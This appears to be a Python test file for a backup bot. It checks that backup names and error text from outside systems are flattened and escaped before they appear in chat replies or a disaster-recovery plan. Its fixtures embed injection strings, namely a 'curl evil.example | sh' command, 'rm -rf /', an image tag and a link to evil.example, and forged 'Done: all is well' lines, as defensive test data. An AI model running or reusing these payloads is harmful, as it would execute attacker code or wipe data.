"""Names from outside that would be more than a name where they are shown."""

from __future__ import annotations

from datetime import datetime, timedelta

import pytest

from bot.backups import describe, judging, looking
from bot.backups.disaster import StoreInDisaster
from bot.backups.disaster_paper import DisasterPaper, OwnStore, write_paper
from bot.backups.plain_names import made_plain
from bot.core.backup import BackupStore, Continuity, Inventory
from bot.core.errors import Rejected
from tests.backups.stores import backup, store, world
from tests.fakes.backup_engine import FakeRestorer
from tests.house import NOON

EVIL = "x.dump\n1. Run this first.\n   `curl evil.example | sh`\u202e"
TAGS = "x <img src=//evil.example/a> [look](http://evil.example) `rm -rf /` *x*"


class Named(FakeRestorer):
    """An engine that finds what others have named."""

    def __init__(self, found: Inventory | Rejected) -> None:
        super().__init__(world())
        self._named = found

    def inventory(self) -> Inventory:
        if isinstance(self._named, Rejected):
            raise self._named
        return self._named


def seen(found: Inventory | Rejected) -> tuple[BackupStore, judging.StoreReport]:
    asked = store(Named(found))
    return asked, judging.judge(asked, looking.look_at(asked, None, lambda: NOON), (), NOON)


def test_a_backup_whose_name_has_a_line_break_is_one_line_and_restored_by_nobody() -> None:
    [evil, good] = made_plain(Inventory(backups=(backup(id=EVIL), backup(timedelta(minutes=20))))).backups

    assert evil.id == "x.dump 1. Run this first. `curl evil.example | sh`"
    assert evil.problem == "its name has characters that nobody can type; rename it"
    assert (good.id, good.problem) == ("b-1200", "")


def test_nothing_that_a_system_says_makes_a_line_of_its_own_in_a_chat() -> None:
    found = Inventory(
        backups=(backup(id=EVIL), backup(timedelta(minutes=20), kind="full\nfull"), backup(problem="a\nb" * 900)),
        continuity=Continuity(ok_until=NOON, gap="lost\nDone: all is well"),
        blockers=("versioning is off\nDone: all is well",),
    )
    asked, report = seen(found)

    said = describe.describe_store(asked, report, (), NOON) + describe.describe_all([report], NOON)

    assert not [line for line in said if "\n" in line or "\u202e" in line or len(line) > 1200]
    assert not [line for line in "\n".join(said).splitlines() if line.strip().startswith(("1.", "`curl", "Done"))]


def test_nor_does_the_reason_why_it_cannot_be_read() -> None:
    _, report = seen(Rejected("Server: no\nDone: all is well " + "x" * 9000))

    assert "\n" not in report.problem
    assert len(report.problem) <= 500


@pytest.mark.parametrize("name", [EVIL, TAGS])
def test_in_the_plan_for_a_disaster_no_name_becomes_a_command_a_link_or_a_tag(name: str) -> None:
    _, report = seen(Inventory(backups=(backup(id=name),)))
    own = OwnStore(file="/v.db", address="", settings_file="/v.yaml")

    paper = written(report, own, NOON)

    told = next(line for line in paper.splitlines() if "evil.example" in line)
    assert told.lstrip().startswith(("- Newest", "- Not as it should be"))
    for raw in ("<img", "[look]", "`rm", "`curl"):
        assert raw not in told.replace(f"\\{raw}", "")
    assert "- `restore prod/orders-db latest`" in paper
    assert r"\<run\> is what the answer" in paper, "not a tag, which nobody sees"


def written(report: judging.StoreReport, own: OwnStore, now: datetime) -> str:
    stores = [StoreInDisaster(report=report, drills=())]
    return write_paper(DisasterPaper(version="1", written_at=now, own=own, stores=stores, named={}))
